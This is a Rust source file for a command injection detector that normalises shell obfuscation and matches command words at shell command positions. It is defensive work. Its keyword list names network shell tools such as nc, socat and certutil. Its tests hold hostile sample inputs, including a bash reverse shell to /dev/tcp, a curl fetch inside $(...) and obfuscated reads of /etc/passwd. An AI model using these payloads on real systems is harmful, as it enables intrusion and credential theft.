//! OS command injection, read the way a shell reads it: the value is normalised the way the
//! shell would before running it (quotes and backslashes inside words removed, `${IFS}` as a
//! space, `$@` dropped), then every command position — value start, after `;`, `|`, `&`, a
//! newline, `$(`, a backtick or `{` — is checked for a known command word (optionally with a
//! path such as `/bin/` or a glob like `/???/`). A command at the very start of a value needs a
//! shell-looking argument too, so `cat food` or `ping me` stays quiet.

use std::collections::HashSet;
use std::sync::OnceLock;

use super::{AttackType, Detector, Finding};
use crate::point::Leaf;

/// Commands attackers run first: reconnaissance, download, reverse shells, interpreters.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "ping",
    "nslookup",
    "dig",
    "host",
    "echo",
    "rm",
    "chmod",
    "chown",
    "kill",
    "killall",
    "ps",
    "netstat",
    "ifconfig",
    "ipconfig",
    "ip",
    "dir",
    "type",
    "net",
    "powershell",
    "pwsh",
    "cmd",
    "nohup",
    "sleep",
    "telnet",
    "ftp",
    "tftp",
    "xterm",
    "awk",
    "gawk",
    "sed",
    "find",
    "head",
    "tail",
    "more",
    "less",
    "env",
    "printenv",
    "export",
    "hostname",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "wmic",
    "reg",
    "sc",
    "cp",
    "mv",
    "touch",
    "mkdir",
    "passwd",
    "useradd",
    "sudo",
    "su",
    "crontab",
    "base64",
    "xxd",
    "od",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "openssl",
    "socat",
    "ssh",
    "scp",
    "rsync",
    "mail",
    "sendmail",
    "vi",
    "vim",
    "nano",
    "grep",
    "egrep",
    "fgrep",
    "cut",
    "sort",
    "uniq",
    "wc",
    "tee",
    "xargs",
    "exec",
    "eval",
    "source",
    "alias",
    "time",
    "timeout",
    "nmap",
    "lsof",
    "pkill",
    "systemctl",
    "service",
    "mount",
    "dd",
    "strings",
    "file",
    "stat",
    "readlink",
    "tac",
    "nl",
    "rev",
    "diff",
    "cmp",
    "getent",
    "finger",
    "who",
    "w",
    "last",
    "uptime",
    "df",
    "du",
    "free",
    "lsb_release",
    "node",
    "java",
    "gcc",
    "cc",
    "make",
    "apt",
    "yum",
    "pip",
    "npm",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "start",
    "call",
    "set",
    "ver",
    "vol",
    "whois",
    "traceroute",
    "tracert",
    "arp",
    "route",
    "fsockopen",
    "expr",
    "printf",
    "read",
    "shutdown",
    "reboot",
    "halt",
    "init",
    "chattr",
    "ln",
    "pwd",
    "sysctl",
    "dmesg",
    "iptables",
    "jobs",
];

/// Recon commands whose bare name is unambiguous even as a whole value.
const START_BARE: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "printenv",
];

/// Commands that are an attack on their own at a command position, even without arguments.
const BARE: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "ls",
    "pwd",
    "ps",
    "hostname",
    "dir",
    "ver",
    "printenv",
    "env",
    "set",
    "uptime",
    "who",
    "w",
];

fn commands() -> &'static HashSet<&'static str> {
    static SET: OnceLock<HashSet<&'static str>> = OnceLock::new();
    SET.get_or_init(|| COMMANDS.iter().copied().collect())
}

fn normalize(lower: &str) -> String {
    let s = lower
        .replace("${ifs}", " ")
        .replace("$ifs", " ")
        .replace("$@", "")
        .replace("$*", "");
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    for (i, c) in s.char_indices() {
        // `c'a't`, `c\at`, `c""at`: quotes and backslashes between word characters vanish.
        let between = i > 0
            && b[i - 1].is_ascii_alphanumeric()
            && b.get(i + 1)
                .is_some_and(|n| n.is_ascii_alphanumeric() || matches!(n, b'\'' | b'"' | b'\\'));
        if matches!(c, '\'' | '"' | '\\')
            && (between || i > 0 && matches!(b[i - 1], b'\'' | b'"' | b'\\'))
        {
            continue;
        }
        out.push(c);
    }
    out
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
}

/// The command word starting at `i` (after an optional path prefix), with its end offset.
fn command_at(s: &str, mut i: usize) -> Option<(&'static str, usize)> {
    let b = s.as_bytes();
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'(' | b'{' | b'!') {
        i += 1;
    }
    // Path prefix: `/bin/`, `/usr/local/bin/`, `/???/`, `c:\windows\system32\`.
    let word_end = |from: usize| {
        from + b[from..]
            .iter()
            .take_while(|&&c| is_word(c) || c == b'?' || c == b'*' || c == b'[' || c == b']')
            .count()
    };
    let mut start = i;
    loop {
        let e = word_end(start);
        if b.get(e) == Some(&b'/') && e + 1 < b.len() && (e > start || start == i) {
            start = e + 1;
            continue;
        }
        break;
    }
    let end = word_end(start);
    let w = &s[start..end];
    if w.is_empty() {
        return None;
    }
    let stem = w.trim_end_matches(".exe");
    if let Some(c) = commands().get(stem) {
        return Some((c, end));
    }
    if !w.bytes().any(|c| matches!(c, b'?' | b'*' | b'[')) {
        return None;
    }
    COMMANDS
        .iter()
        .find(|c| glob_matches(w, c))
        .map(|c| (*c, end))
}

/// `c?t`, `c*t`, `c[a]t` style globs against a command name.
fn glob_matches(pattern: &str, name: &str) -> bool {
    if !pattern.bytes().any(|c| matches!(c, b'?' | b'*' | b'[')) || pattern.len() < 2 {
        return false;
    }
    let cleaned: String = pattern
        .chars()
        .filter(|c| !matches!(c, '[' | ']'))
        .collect();
    let (p, n) = (cleaned.as_bytes(), name.as_bytes());
    if cleaned.contains('*') {
        return false;
    }
    p.len() == n.len()
        && p.iter().zip(n).all(|(a, b)| *a == b'?' || a == b)
        && p.iter().any(|c| *c != b'?')
}

/// Does what follows a command look like shell arguments?
fn shell_args(rest: &str) -> bool {
    let r = rest.trim_start();
    if r.is_empty() {
        return false;
    }
    rest.starts_with([' ', '\t', '<', '>', '|', ';', '&'])
        && (r.starts_with(['/', '$', '|', '<', '&', ';', '`', '~', '%'])
            || r.starts_with('-')
                && r.as_bytes()
                    .get(1)
                    .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-')
            || r.starts_with('>') && !r.starts_with("> ")
            || r.starts_with("./")
            || r.contains("/dev/")
            || r.contains("http://")
            || r.contains("https://")
            || r.as_bytes()
                .windows(3)
                .any(|w| w[0] == b' ' && w[1] == b'-' && w[2].is_ascii_alphabetic()))
}

pub struct Rce;

impl Rce {
    fn analyse(s: &str) -> Option<(usize, usize, &'static str)> {
        for strong in [
            "/dev/tcp/",
            "/dev/udp/",
            "/bin/sh",
            "/bin/bash",
            "cmd.exe",
            "cmd /c",
            "powershell -",
            "%comspec%",
            "$(",
            "${ifs}",
        ] {
            if let Some(p) = s.find(strong) {
                if strong != "$(" || command_at(s, p + 2).is_some() {
                    return Some((p, (p + 48).min(s.len()), "shell construct"));
                }
            }
        }
        let s = normalize(s);
        let b = s.as_bytes();
        // Value start: a command with shell-looking arguments, or a bare recon command.
        if let Some((cmd, end)) = command_at(&s, 0) {
            let rest = &s[end..];
            if shell_args(rest) || (START_BARE.contains(&cmd) && rest.trim().is_empty()) {
                return Some((0, (end + 48).min(s.len()), "command with shell arguments"));
            }
        }
        for i in 0..b.len() {
            let sep = match b[i] {
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
                b'$' if b.get(i + 1) == Some(&b'(') => i + 2,
                b'{' if i == 0 || b[i - 1] == b'$' => continue,
                _ => continue,
            };
            // Markdown code spans in prose (`use `ls -la` to…`) are not command substitution.
            if b[i] == b'`'
                && i > 0
                && b[i - 1] == b' '
                && s.bytes().filter(|&c| c == b' ').count() > 3
            {
                continue;
            }
            // `&amp;`, `&&`, `||`: skip doubled separators; `&amp;` style text is not shell.
            let sep = if b.get(sep).is_some_and(|&c| c == b[i] && c != b'`') {
                sep + 1
            } else {
                sep
            };
            if b[i] == b'&'
                && b.get(sep).is_some_and(|c| c.is_ascii_alphabetic())
                && s[sep..]
                    .split(|c: char| !c.is_ascii_alphanumeric())
                    .next()
                    .is_some_and(|w| s[sep + w.len()..].starts_with(';'))
            {
                continue;
            }
            if let Some((cmd, end)) = command_at(&s, sep) {
                let rest = &s[end..];
                let closes = rest.is_empty()
                    || rest.starts_with([
                        ' ', '\t', ';', '|', '&', '`', ')', '\n', '<', '>', '}', ',',
                    ]);
                let ok = closes
                    && (BARE.contains(&cmd)
                        || shell_args(rest)
                        || matches!(b[i], b'`' | b'$' | b'\n')
                        || rest.is_empty()
                        || rest.starts_with([';', '|', '&', '`', ')']));
                if ok {
                    return Some((i, (end + 48).min(s.len()), "command after shell separator"));
                }
            }
        }
        None
    }
}

impl Detector for Rce {
    fn attack(&self) -> AttackType {
        AttackType::Rce
    }

    fn check(&self, leaf: &Leaf) -> Option<Finding> {
        let s = leaf.lower.as_str();
        if s.len() < 2 {
            return None;
        }
        Self::analyse(s).map(|(a, b, reason)| Finding {
            at: a.min(s.len())..b.min(s.len()),
            reason,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        Rce::analyse(&v.to_ascii_lowercase()).is_some()
    }

    #[test]
    fn finds_command_injection() {
        for v in [
            "; cat /etc/passwd",
            "1|id",
            "x && whoami",
            "`uname -a`",
            "$(curl http://x/y.sh)",
            "127.0.0.1; ping -c 3 evil",
            "/bin/bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "c'a't /etc/passwd",
            "x;/???/c?t /etc/passwd",
            "nohup sh -c whoami\n",
            "cat${IFS}/etc/passwd",
            "| dir c:\\",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    #[test]
    fn ignores_prose() {
        for v in [
            "cat food",
            "Tom & Jerry",
            "fish &amp; chips",
            "ping me later",
            "rock;paper;scissors",
            "id card number",
            "echo chamber",
            "a | b",
            "find the best deals",
            "R&D; sales",
        ] {
            assert!(!hit(v), "{v}");
        }
    }
}
